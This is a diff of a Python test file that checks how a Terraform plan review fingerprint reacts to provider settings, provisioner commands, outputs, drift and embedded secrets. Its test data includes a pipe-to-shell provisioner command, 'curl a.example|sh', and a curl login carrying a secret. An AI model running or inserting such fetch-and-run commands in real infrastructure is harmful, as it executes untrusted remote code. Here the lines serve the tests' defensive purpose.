@@ -1,5 +1,6 @@
 """What was reviewed is what is applied."""
 
+import json
 from collections.abc import Mapping
 from typing import Any
 
@@ -7,7 +8,7 @@ import pytest
 
 from tests.plans.all_cases import CASES
 from tests.plans.verdicts import reviewed as reviewed_recording
-from tests.unit.review.plans import CLIENT, change, plan, reviewed
+from tests.unit.review.plans import CLIENT, POOL, change, plan, reviewed
 
 WEB = {"name": "web", "callback_urls": ["https://a.example"]}
 
@@ -23,7 +24,7 @@ BASE = of(change(CLIENT, "web", WEB, {**WEB, "callback_urls": ["https://b.exampl
 def test_it_is_the_same_for_the_same_plan() -> None:
     again = change(CLIENT, "web", dict(WEB), {**WEB, "callback_urls": ["https://b.example"]})
     assert of(again) == BASE
-    assert BASE.startswith("v1:")
+    assert BASE.startswith("v2:")
     assert len(BASE) == 35
 
 
@@ -76,6 +77,183 @@ def test_noise_times_versions_and_unchanged_resources_do_not_count() -> None:
     )
     still = change(CLIENT, "api", WEB, WEB, actions=("no-op",))
     assert of(noisy, still, timestamp="2026-01-01T00:00:00Z", terraform_version="1.12.0") == BASE
+
+
+def configured(**more: Any) -> dict[str, Any]:
+    """Make a configuration with one provider and one client."""
+    web = {"mode": "managed", "type": CLIENT, "name": "web", "provider_config_key": "aws"}
+    provider = {
+        "name": "aws",
+        "full_name": "registry.terraform.io/hashicorp/aws",
+        "version_constraint": "5.100.0",
+        "expressions": {
+            "region": {"constant_value": "eu-west-1"},
+            "assume_role": [{"role_arn": {"references": ["var.role"]}}],
+            "secret_key": {"constant_value": "none"},
+            **more.pop("expressions", {}),
+        },
+        **more.pop("provider", {}),
+    }
+    return {
+        "provider_config": {"aws": provider},
+        "root_module": {
+            "resources": [{**web, **more}],
+            "variables": {"role": {}, "secret": {"sensitive": True}},
+        },
+    }
+
+
+ROLE = {"role": {"value": "arn:aws:iam::123456789012:role/deploy"}}
+NEW = change(CLIENT, "web", None, {"name": "web"}, after_unknown={"user_pool_id": True})
+USUAL = of(NEW, configuration=configured(), variables=ROLE)
+COMMAND = {"type": "local-exec", "expressions": {"command": {"constant_value": "./seed"}}}
+
+
+@pytest.mark.parametrize(
+    "configuration",
+    [
+        configured(provider={"full_name": "registry.acme.example/acme/aws"}),
+        configured(provider={"version_constraint": "6.0.0"}),
+        configured(provider_config_key="aws.west"),
+        configured(expressions={"region": {"constant_value": "eu-central-1"}}),
+        configured(expressions={"profile": {"constant_value": "other"}}),
+        configured(expressions={"allowed_account_ids": {"constant_value": ["123456789012"]}}),
+        configured(expressions={"assume_role": [{"role_arn": {"references": ["var.other"]}}]}),
+        configured(expressions={"endpoints": [{"sts": {"constant_value": "http://a.example"}}]}),
+        configured(provisioners=[COMMAND]),
+    ],
+)
+def test_by_what_a_plan_is_applied_counts(configuration: Mapping[str, Any]) -> None:
+    assert of(NEW, configuration=configured(), variables=ROLE) == USUAL
+    assert of(NEW, configuration=configuration, variables=ROLE) != USUAL
+
+
+@pytest.mark.parametrize(
+    ("one", "other"),
+    [
+        (configured(provisioners=[COMMAND]), configured(provisioners=[{**COMMAND, "type": "x"}])),
+        (
+            configured(provisioners=[COMMAND]),
+            configured(
+                provisioners=[
+                    {**COMMAND, "expressions": {"command": {"constant_value": "curl a.example|sh"}}}
+                ]
+            ),
+        ),
+        (
+            {**configured(), "root_module": {"resources": []}},
+            {
+                **configured(),
+                "root_module": {
+                    "module_calls": {
+                        "m": {
+                            "module": {"resources": [{"type": CLIENT, "provisioners": [COMMAND]}]}
+                        }
+                    }
+                },
+            },
+        ),
+    ],
+)
+def test_what_a_provisioner_runs_counts(one: Mapping[str, Any], other: Mapping[str, Any]) -> None:
+    assert of(NEW, configuration=one) != of(NEW, configuration=other)
+
+
+def test_the_value_of_a_variable_of_the_provider_counts() -> None:
+    other = {"role": {"value": "arn:aws:iam::999999999999:role/deploy"}}
+    assert of(NEW, configuration=configured(), variables=other) != USUAL
+
+
+def test_what_an_unknown_value_will_be_made_of_counts() -> None:
+    one, other = (
+        {"user_pool_id": {"references": [f"{POOL}.{name}.id", f"{POOL}.{name}"]}}
+        for name in ("users", "staff")
+    )
+    root = configured()["root_module"]
+
+    def made_of(expressions: Mapping[str, Any]) -> str:
+        web = {**root["resources"][0], "expressions": expressions}
+        return of(NEW, configuration={**configured(), "root_module": {"resources": [web]}})
+
+    assert made_of(one) != made_of(other)
+
+
+STILL = change(CLIENT, "web", WEB, WEB, actions=("no-op",))
+LATER = [{"reason": "provider_config_unknown", "resource_change": NEW}]
+
+
+def test_how_much_is_applied_and_what_changed_meanwhile_count() -> None:
+    output = {"actions": ["create"], "after": "https://a.example"}
+    plans: list[dict[str, Any]] = [
+        {},
+        {"complete": False},
+        {"applyable": False},
+        {"deferred_changes": LATER},
+        {"deferred_changes": [*LATER, *LATER]},
+        {"output_changes": {"url": output}},
+        {"output_changes": {"url": {**output, "after": "https://b.example"}}},
+        {"output_changes": {"url": {**output, "after_sensitive": True}}},
+        {"resource_drift": [change(CLIENT, "web", {**WEB, "name": "old"}, WEB)]},
+        {"resource_drift": [change(CLIENT, "web", {**WEB, "name": "older"}, WEB)]},
+    ]
+    assert len({of(STILL, **one) for one in plans}) == len(plans)
+
+
+def test_what_is_imported_and_what_becomes_sensitive_count() -> None:
+    imported = [
+        of(change(CLIENT, "web", WEB, WEB, actions=("no-op",), importing={"id": one}))
+        for one in ("pool/a", "pool/b")
+    ]
+    marked = of(
+        change(CLIENT, "web", WEB, WEB, before_sensitive={}, after_sensitive={"name": True})
+    )
+    unmarked = of(change(CLIENT, "web", WEB, WEB, before_sensitive={}, after_sensitive={}))
+    assert len({*imported, marked, unmarked}) == 4
+
+
+def with_secret(secret: str) -> str:
+    """Give the fingerprint of a plan that holds *secret* beside its changes."""
+    login = {"constant_value": f"curl https://me:{secret}@a.example"}
+    provisioner = {
+        "expressions": {
+            "command": login,
+            "environment": {"constant_value": {"DB_PASSWORD": secret, secret: "a"}},
+            "interpreter": {"constant_value": [f"{secret} ${{var.a}}"], "references": ["var.a"]},
+        }
+    }
+    configuration = configured(
+        expressions={
+            "secret_key": {"constant_value": secret},
+            "region": {"references": ["var.secret"]},
+        },
+        provisioners=[provisioner],
+    )
+    outputs = {
+        "key": {"actions": ["create"], "after": secret, "after_sensitive": True},
+        "client_secret": {"actions": ["create"], "after": secret},
+    }
+    return of(
+        NEW,
+        configuration=configuration,
+        variables={"secret": {"value": secret}, "a": {"value": f"a {secret}"}},
+        output_changes={**outputs, "copy": {"actions": ["create"], "after": f"a {secret}"}},
+    )
+
+
+def test_no_guess_of_a_secret_beside_the_changes_can_be_confirmed() -> None:
+    assert with_secret("hunter2-one") == with_secret("hunter2-another")
+
+
+def test_the_order_of_what_has_none_does_not_count() -> None:
+    document = plan(
+        NEW,
+        configuration=configured(),
+        variables=ROLE,
+        output_changes={name: {"actions": ["create"], "after": name} for name in ("a", "b")},
+    )
+    mixed = json.loads(json.dumps(document, sort_keys=True))
+    mixed["output_changes"] = dict(reversed(document["output_changes"].items()))
+    assert reviewed(mixed).fingerprint == reviewed(document).fingerprint
 
 
 def test_recorded_plans_that_do_different_things_are_told_apart() -> None:
